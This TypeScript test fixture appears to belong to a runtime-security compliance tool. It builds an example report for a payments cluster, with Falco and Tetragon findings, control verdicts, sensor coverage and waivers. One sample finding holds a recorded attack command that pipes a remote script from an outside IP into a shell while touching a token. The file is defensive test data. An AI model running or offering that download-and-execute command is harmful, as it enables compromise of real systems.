import type { ControlResult, Finding, InstanceCoverage, Judgement, Run, WaiverUse, Watched } from '../../core/model/judgement.ts'
import { EVIDENCE_MEDIA_TYPE, REPORT_TYPE, type Report } from '../../core/model/report.ts'
import { minutesByState } from './watching.ts'

/** For tests only. What `exampleReport` may be told to have instead. */
export type Overrides = Partial<Omit<Report, 'judgement'>> & { readonly judgement?: Partial<Judgement> }

/**
 * A day of payments in production, for tests: ten controls (7 pass, 1 fail, 1 waived, 1 inconclusive), Falco and Tetragon on two
 * nodes, Falco silent on node-b for 40 minutes, Tetragon degraded on node-a for 18, a waiver in force, one expired, one refused,
 * and one detection that no control maps. Coverage is added up from the instances, not written down.
 */
export function exampleReport(overrides: Overrides = {}): Report {
  const { judgement, ...rest } = overrides
  return {
    type: REPORT_TYPE,
    producer: { name: 'runproof', version: '0.1.0' },
    scope: {
      application: 'payments',
      environment: 'production',
      cluster: 'prod-eu-1',
      workloads: workloads.map(({ name, nodes }) => ({ name, namespace: 'payments', class: 'kubernetes', nodes: [...nodes] })),
    },
    window,
    evaluatedAt: window.end,
    manifest: {
      name: 'payments-production',
      version: '1.4.0',
      digest: hex('manifest'),
      owner: 'payments-platform@example.com',
      signedBy: { name: 'Dana Owner', keyId: hex('dana') },
    },
    gate: { engine: 'runproof-rego/1', digest: hex('gate'), entrypoint: 'runproof/gate' },
    evidence: { root: hex('root'), digest: hex('evidence'), lines: 4218, mediaType: EVIDENCE_MEDIA_TYPE },
    judgement: { ...exampleJudgement(), ...judgement },
    quarantine: { count: 3, reasons: { 'falco: not JSON': 2, 'tetragon: line longer than 1 MiB': 1 } },
    decisions: [
      { id: 'WVR-2026-014', digest: hex('waiver-14'), ledgerIndex: 41, signedBy: ada },
      { id: 'WVR-2025-090', digest: hex('waiver-90'), ledgerIndex: 17, signedBy: ada },
    ],
    refusedWaivers: [
      {
        source: 'waivers/ptrace.dsse.json',
        id: 'WVR-2026-020',
        why: 'signed by a key that is not among the manifest’s approvers',
      },
    ],
    previous: {
      windowId: '20260301T000000Z_20260302T000000Z_payments_production',
      reportDigest: hex('previous'),
      relation: 'follows',
    },
    ledger: { origin: 'log.payments.example', size: 43, root: hex('ledger') },
    ...rest,
  }
}

/** For tests only: 64 hex digits that depend on the text. */
export function hex(text: string): string {
  let state = 2_166_136_261
  let digits = ''
  for (let round = 0; digits.length < 64; round++) {
    for (const character of `${text}/${round}`) state = Math.imul(state ^ (character.codePointAt(0) ?? 0), 16_777_619) >>> 0
    digits += state.toString(16).padStart(8, '0')
  }
  return digits
}

/** For tests only: a shell in payments-api, with anything about it changed. */
export function exampleFinding(overrides: Partial<Finding> = {}): Finding {
  return {
    control: 'ns-payments.shell-spawn.v1',
    fingerprint: `rpf1:${hex('shell')}`,
    identity: {
      application: 'payments',
      environment: 'production',
      cluster: 'prod-eu-1',
      namespace: 'payments',
      workload: 'payments-api',
      action: 'exec',
      executable: null,
      target: { type: 'binary', path: '/usr/bin/dash', partial: false },
    },
    workloads: ['payments-api'],
    attributed: true,
    because: 'evidence',
    severity: 'high',
    confidence: 0.95,
    placed: true,
    excepted: null,
    waivedBy: [],
    recurrence: 'new',
    count: 4,
    first: '2026-03-02T08:33:05.305000000Z',
    last: '2026-03-02T08:35:41.000000000Z',
    sensors: [
      { sensor: 'falco', rules: ['Terminal shell in container'], count: 2 },
      { sensor: 'tetragon', rules: [], count: 2 },
    ],
    effects: { prevented: 0, terminated: 1, observed: 3, unknown: 0 },
    samples: [
      {
        at: '2026-03-02T08:33:05.305000000Z',
        digest: hex('sample-shell'),
        node: 'node-a',
        pod: 'payments-api-7d9c5b6f4-x2x8v',
        container: 'api',
        image: 'registry.example.com/payments/api',
        pid: 48_213,
        uid: 1000,
        commandLine: 'sh -c "curl -s http://198.51.100.7/x.sh | sh; echo $TOKEN=‹redacted›"',
        ancestors: ['/usr/local/bin/node', '/usr/bin/containerd-shim-runc-v2'],
        tags: ['mitre_execution', 'T1059'],
        redacted: 1,
      },
    ],
    ...overrides,
  }
}

/** For tests only: a control that passed without a finding. */
export function exampleControl(overrides: Partial<ControlResult> = {}): ControlResult {
  const thresholds = { count: 1, severity: 'low', confidence: 0.8 } as const
  return {
    id: 'ns-payments.ptrace.v1',
    title: 'No process inspects another one',
    behaviour: 'syscall',
    stage: 'enforce',
    verdict: 'pass',
    verdictBeforeWaivers: 'pass',
    reasons: [
      {
        code: 'clean',
        message: 'no violation, and every required sensor watched enough',
        rule: 'default.pass',
        numbers: { violations: 0 },
        findings: [],
      },
    ],
    workloads: workloads.map(({ name }) => name),
    thresholds: { fail: thresholds, review: { ...thresholds, confidence: 0 } },
    counts: { violations: 0, excepted: 0, waived: 0, occurrences: 0 },
    findings: [],
    waivedBy: [],
    frameworks: { 'SOC 2': ['CC7.2'], 'MITRE ATT&CK': ['T1055.008'] },
    watched: watchedBy(['tetragon']),
    ...overrides,
  }
}

/** For tests only: one instance over the window of the example, with runs from `HH:MM` to `HH:MM`. */
export function exampleInstance(
  sensor: string,
  node: string | null,
  gaps: readonly Run[] = [],
  overrides: Partial<InstanceCoverage> = {},
): InstanceCoverage {
  const runs: Run[] = []
  let from: string = window.start
  for (const gap of gaps) {
    if (gap.from > from) runs.push({ state: 'observed', from, to: gap.from, why: [] })
    runs.push(gap)
    from = gap.to
  }
  if (from < window.end) runs.push({ state: 'observed', from, to: window.end, why: [] })
  return {
    sensor,
    node,
    required: true,
    version: sensor === 'falco' ? '0.43.0' : '1.6.0',
    policies: { [`${sensor}_rules.yaml`]: hex(sensor) },
    beats: 288,
    dropped: 0,
    restarts: 0,
    runs,
    ...overrides,
  }
}

const window = {
  id: '20260302T000000Z_20260303T000000Z_payments_production',
  application: 'payments',
  environment: 'production',
  start: '2026-03-02T00:00:00Z',
  end: '2026-03-03T00:00:00Z',
} as const

const workloads = [
  { name: 'payments-api', nodes: ['node-a', 'node-b'] },
  { name: 'payments-worker', nodes: ['node-b'] },
  { name: 'payments-web', nodes: ['node-a'] },
] as const

const ada = { name: 'Ada Approver', keyId: hex('ada') }

const instances: readonly InstanceCoverage[] = [
  exampleInstance('falco', 'node-a'),
  exampleInstance(
    'falco',
    'node-b',
    [{ state: 'silent', from: at('10:12'), to: at('10:52'), why: ['no sign of life for more than twice the interval of 5m'] }],
    { beats: 280, restarts: 1 },
  ),
  exampleInstance(
    'tetragon',
    'node-a',
    [{ state: 'degraded', from: at('14:05'), to: at('14:23'), why: ['lost 41 of 18,200 events (0.23 %, tolerated 1 %)'] }],
    { beats: 1440, dropped: 41 },
  ),
  exampleInstance('tetragon', 'node-b', [], { beats: 1440 }),
]

function at(time: string): string {
  return `2026-03-02T${time}:00Z`
}

/** A workload takes the minutes of its worst instance. */
function watchedBy(sensors: readonly string[], names: readonly string[] = workloads.map(({ name }) => name)): Watched[] {
  return workloads
    .filter(({ name }) => names.includes(name))
    .flatMap(({ name, nodes }) =>
      sensors.map((sensor) => {
        const mine = instances
          .filter((one) => one.sensor === sensor && nodes.some((node) => node === one.node))
          .map(minutesByState)
        const silent = Math.max(...mine.map((one) => one.silent))
        const degraded = Math.max(...mine.map((one) => one.degraded))
        const ratio = (1440 - silent) / 1440
        const counts = { observed: 1440 - silent - degraded, degraded, silent, outOfScope: 0 }
        return { workload: name, sensor, ...counts, ratio, minCoverage: 0.99, sufficient: ratio >= 0.99 }
      }),
    )
}

function exampleJudgement(): Judgement {
  const controls = exampleControls()
  const watched = controls.flatMap((control) => control.watched)
  const sum = (state: 'observed' | 'degraded' | 'silent' | 'outOfScope') => watched.reduce((total, one) => total + one[state], 0)
  return {
    procedure: 'rpj1',
    window,
    evaluatedAt: window.end,
    verdict: 'fail',
    verdictBeforeWaivers: 'fail',
    reasons: [
      {
        code: 'control_failed',
        message: '1 control failed after waivers',
        rule: 'window.fail',
        numbers: { failed: 1 },
        findings: [],
      },
    ],
    controls,
    findings: exampleFindings(),
    gone: [{ fingerprint: `rpf1:${hex('gone')}`, watched: false }],
    waivers: exampleWaivers(),
    coverage: {
      unlisted: 0,
      minutes: 1440,
      totals: {
        population: watched.length * 1440,
        observed: sum('observed'),
        degraded: sum('degraded'),
        silent: sum('silent'),
        outOfScope: sum('outOfScope'),
      },
      instances: [...instances],
    },
    tally: {
      'detection/falco': 9,
      'detection/tetragon': 4,
      'observation/tetragon': 18_159,
      'observation_without_act/tetragon': 9034,
      'health/falco': 568,
      'health/tetragon': 2880,
      'ignored/tetragon: loader event': 112,
      'malformed/falco: not JSON': 2,
      'malformed/tetragon: line longer than 1 MiB': 1,
      'out_of_window/falco': 6,
      'out_of_scope/tetragon': 240,
      'unattributed/falco': 1,
      redacted: 7,
    },
    steps: (['match', 'cover', 'waive', 'gate'] as const).map((name) => ({ name, digest: hex(`step-${name}`) })),
  }
}

function exampleControls(): ControlResult[] {
  const shell = exampleFinding()
  return [
    exampleControl({
      id: 'ns-payments.shell-spawn.v1',
      title: 'Web services do not spawn shells',
      behaviour: 'exec',
      verdict: 'fail',
      verdictBeforeWaivers: 'fail',
      reasons: [
        {
          code: 'threshold',
          message: '2 distinct violations of severity low or more with confidence 0.8 or more; 1 is enough to fail',
          rule: 'default.fail',
          numbers: { violations: 2, threshold: 1, minimum_severity: 'low', minimum_confidence: 0.8 },
          findings: [shell.fingerprint, `rpf1:${hex('bash')}`],
        },
        {
          code: 'coverage',
          message: 'falco watched 97.22 % of payments-api and payments-worker, less than the required 99 %',
          rule: 'default.coverage',
          numbers: { ratio: 0.972222, required: 0.99, silent_minutes: 40 },
          findings: [],
        },
      ],
      counts: { violations: 2, excepted: 1, waived: 0, occurrences: 19 },
      findings: [shell.fingerprint, `rpf1:${hex('bash')}`, `rpf1:${hex('probe')}`],
      frameworks: { 'SOC 2': ['CC6.8', 'CC7.2'], 'MITRE ATT&CK': ['T1059.004'], 'NIST 800-53': ['SI-4', 'CM-7'] },
      watched: watchedBy(['falco', 'tetragon']),
    }),
    exampleControl({
      id: 'ns-payments.package-manager.v2',
      title: 'No package manager runs in a container',
      behaviour: 'exec',
      stage: 'alert',
      verdict: 'waived',
      verdictBeforeWaivers: 'fail',
      reasons: [
        {
          code: 'waived',
          message: 'the 1 violation is covered by waiver WVR-2026-014 until 2026-04-02',
          rule: 'default.waived',
          numbers: { violations: 1, waived: 1 },
          findings: [`rpf1:${hex('apk')}`],
        },
      ],
      counts: { violations: 1, excepted: 0, waived: 1, occurrences: 2 },
      findings: [`rpf1:${hex('apk')}`],
      waivedBy: ['WVR-2026-014'],
      frameworks: { 'SOC 2': ['CC8.1'], CIS: ['5.1'] },
    }),
    exampleControl({
      id: 'ns-payments.sensitive-files.v1',
      title: 'Credentials on disk are not read',
      behaviour: 'open',
      verdict: 'inconclusive',
      verdictBeforeWaivers: 'inconclusive',
      reasons: [
        {
          code: 'coverage',
          message: 'no violation was seen, but falco watched 97.22 % of payments-api and payments-worker and 99 % is required',
          rule: 'default.coverage',
          numbers: { ratio: 0.972222, required: 0.99, silent_minutes: 40 },
          findings: [],
        },
      ],
      frameworks: { 'SOC 2': ['CC6.1'], 'ISO 27001': ['A.8.3'] },
      watched: watchedBy(['falco']),
    }),
    exampleControl(),
    ...(
      [
        ['outbound-allow-list.v3', 'Services connect only to declared destinations', 'connect'],
        ['kernel-modules.v1', 'No kernel module is loaded', 'syscall'],
        ['privilege-change.v1', 'No process gains capabilities', 'privilege_change'],
        ['crypto-miner.v1', 'No known mining software runs', 'exec'],
        ['cloud-metadata.v1', 'The cloud metadata service is not contacted', 'connect'],
      ] as const
    ).map(([id, title, behaviour]) => exampleControl({ id: `ns-payments.${id}`, title, behaviour })),
    exampleControl({
      id: 'ns-payments.web-exec-allow-list.v1',
      title: 'payments-web runs only the binaries of its image',
      behaviour: 'exec',
      workloads: ['payments-web'],
      watched: watchedBy(['falco'], ['payments-web']),
    }),
  ]
}

function exampleFindings(): Finding[] {
  const shell = exampleFinding()
  const exec = (path: string) => ({ ...shell.identity, target: { type: 'binary' as const, path, partial: false } })
  return [
    shell,
    exampleFinding({
      fingerprint: `rpf1:${hex('bash')}`,
      identity: { ...exec('bash'), workload: null, target: { type: 'binary', path: 'bash', partial: true } },
      workloads: ['payments-api', 'payments-worker'],
      attributed: false,
      severity: 'medium',
      confidence: 0.8,
      recurrence: 'returned',
      count: 3,
      first: '2026-03-02T19:02:11.000000000Z',
      last: '2026-03-02T19:02:14.120000000Z',
      sensors: [{ sensor: 'falco', rules: ['Run shell untrusted'], count: 3 }],
      effects: { prevented: 3, terminated: 0, observed: 0, unknown: 0 },
      samples: [],
    }),
    exampleFinding({
      fingerprint: `rpf1:${hex('probe')}`,
      identity: exec('/usr/bin/sh'),
      severity: 'low',
      excepted: 'the readiness probe of the base image runs sh -c',
      recurrence: 'recurring',
      count: 12,
      sensors: [{ sensor: 'tetragon', rules: [], count: 12 }],
      effects: { prevented: 0, terminated: 0, observed: 12, unknown: 0 },
      because: 'not_allowed',
      samples: [],
    }),
    exampleFinding({
      control: 'ns-payments.package-manager.v2',
      fingerprint: `rpf1:${hex('apk')}`,
      identity: { ...exec('/sbin/apk'), workload: 'payments-worker' },
      workloads: ['payments-worker'],
      because: 'denied',
      severity: 'medium',
      waivedBy: ['WVR-2026-014'],
      recurrence: 'recurring',
      count: 2,
      sensors: [{ sensor: 'tetragon', rules: [], count: 2 }],
      effects: { prevented: 0, terminated: 0, observed: 1, unknown: 1 },
      samples: [],
    }),
    exampleFinding({
      control: null,
      fingerprint: `rpf1:${hex('clock')}`,
      identity: { ...shell.identity, action: null, target: null, workload: 'payments-web' },
      workloads: ['payments-web'],
      because: 'unmapped',
      severity: 'medium',
      count: 1,
      last: '2026-03-02T08:33:05.305000000Z',
      sensors: [{ sensor: 'falco', rules: ['Clear log activities'], count: 1 }],
      effects: { prevented: 0, terminated: 0, observed: 1, unknown: 0 },
      samples: [],
    }),
  ]
}

function exampleWaivers(): WaiverUse[] {
  const active: WaiverUse = {
    id: 'WVR-2026-014',
    control: 'ns-payments.package-manager.v2',
    digest: hex('waiver-14'),
    state: 'active',
    reason: 'The worker’s base image installs a time zone package at start until release 2026.4 bakes it in.',
    compensatingControl: 'The worker has no route to the internet; packages come from the internal mirror only.',
    requestedBy: 'Theo Requester',
    signedBy: ada,
    notBefore: '2026-02-20T00:00:00Z',
    expires: '2026-04-02T00:00:00Z',
    findings: [`rpf1:${hex('apk')}`],
  }
  return [
    active,
    {
      ...active,
      id: 'WVR-2025-090',
      control: 'ns-payments.shell-spawn.v1',
      digest: hex('waiver-90'),
      state: 'expired',
      reason: 'Debug shell of the migration in January.',
      compensatingControl: 'Two people at the keyboard, session recorded.',
      notBefore: '2026-01-10T00:00:00Z',
      expires: '2026-02-10T00:00:00Z',
      findings: [],
    },
  ]
}
